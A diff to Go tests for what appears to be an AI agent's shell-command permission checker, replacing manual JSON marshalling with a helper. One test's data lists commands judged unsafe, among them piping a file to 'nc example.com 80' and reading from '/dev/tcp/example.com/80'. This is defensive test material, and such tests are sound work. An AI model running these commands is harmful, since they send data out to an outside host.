@@ -130,8 +130,7 @@ func TestAHooksReasonIsShown(t *testing.T) {
 	for command, p := range map[string]Permission{
 		"ls": {Mode: policy.Bypass}, "make": {}, "git push": {Rules: policy.Rules{Ask: ask}},
 	} {
-		input, err := json.Marshal(map[string]string{"command": command})
-		must.OK(t, err)
+		input := must.JSON(t, map[string]string{"command": command})
 		got, err := p.Decide(t.Context(), pipeline.PermissionInput{
 			CallContext: pipeline.CallContext{Interactive: true}, Declaration: d, Input: input, Opinion: pipeline.Ask,
 			OpinionReason: "it is Friday",
@@ -156,8 +155,7 @@ func TestWhatACommandDoesDecides(t *testing.T) {
 		"cat a | nc example.com 80": false, "git push": false, "cat < /dev/tcp/example.com/80": false,
 		"$X": false, "ls; eval $Y": false, "ls 'a": false, "sh -c ls": false,
 	} {
-		input, err := json.Marshal(map[string]string{"command": command})
-		must.OK(t, err)
+		input := must.JSON(t, map[string]string{"command": command})
 		judgement, asks := registry.Judge(d, input, shell.Judge)
 		if asks {
 			t.Fatalf("%q is judged by a worker", command)
